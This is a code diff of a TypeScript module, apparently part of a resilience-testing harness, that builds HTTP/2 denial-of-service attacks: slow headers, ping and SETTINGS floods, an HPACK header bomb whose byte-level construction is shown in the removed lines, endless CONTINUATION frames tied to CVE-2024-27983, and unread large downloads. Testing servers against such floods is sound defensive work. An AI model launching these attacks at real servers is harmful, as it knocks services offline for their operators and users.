@@ -2,7 +2,7 @@
 
 import { setImmediate as turn, setTimeout as delay } from 'node:timers/promises';
 import type { TLSSocket } from 'node:tls';
-import { frame, openAndReset, PREFACE } from '../support/exit-frames.ts';
+import { frame, headerBomb, openAndReset, PREFACE } from '../support/exit-frames.ts';
 import { dialExit, hold } from './open.ts';
 import type { Attack, Target } from './target.ts';
 
@@ -11,7 +11,6 @@ const SETTINGS = 4;
 const PING = 6;
 const CONTINUATION = 9;
 const END_STREAM = 1;
-const END_HEADERS = 4;
 
 /** Headers that never end, a byte in a second. */
 const slowHeaders: Attack = (target, signal) =>
@@ -94,13 +93,7 @@ const pingsUnread = frames(() => many(FRAMES_A_WRITE, () => frame(PING, 0, 0, Bu
 const setting = frame(SETTINGS, 0, 0, Buffer.from([0, 4, 0, 1, 0, 0]));
 const settings = frames(() => many(FRAMES_A_WRITE, () => setting));
 
-/** HPACK (RFC 7541): a field of 3,900 bytes goes into the table once and is then named 1,000 times with a byte each. */
-const headerBomb = frames((round) => {
-  const size = 3_900;
-  const literal = Buffer.concat([Buffer.from([0x40, 1, 0x61, 0x7f]), varint(size - 127), Buffer.alloc(size, 0x62)]);
-  const block = Buffer.concat([Buffer.from([0x82, 0x86, 0x84]), literal, Buffer.alloc(1_000, 0xbe)]);
-  return frame(HEADERS, END_STREAM | END_HEADERS, 2 * round + 1, block);
-});
+const headerBombs = frames((round) => headerBomb(2 * round + 1));
 
 /** A header section that never ends (CVE-2024-27983 and its kin). */
 const continuations = frames((round) => {
@@ -108,14 +101,6 @@ const continuations = frames((round) => {
   const block = many(100, () => field);
   return round === 0 ? frame(HEADERS, END_STREAM, 1, block) : frame(CONTINUATION, 0, 1, block);
 });
-
-function varint(value: number): Buffer {
-  const bytes: number[] = [];
-  for (let left = value; ; left = Math.floor(left / 128)) {
-    bytes.push(left < 128 ? left : 0x80 | (left % 128));
-    if (left < 128) return Buffer.from(bytes);
-  }
-}
 
 /** Downloads of a gigabyte that nobody reads. */
 const unread: Attack = (target: Target, signal) =>
@@ -138,7 +123,7 @@ export const HTTP_ATTACKS: Record<string, Attack> = {
   pings,
   'pings, answers unread': pingsUnread,
   settings,
-  'header bombs': headerBomb,
+  'header bombs': headerBombs,
   'headers without an end': continuations,
   'downloads that nobody reads': unread,
 };
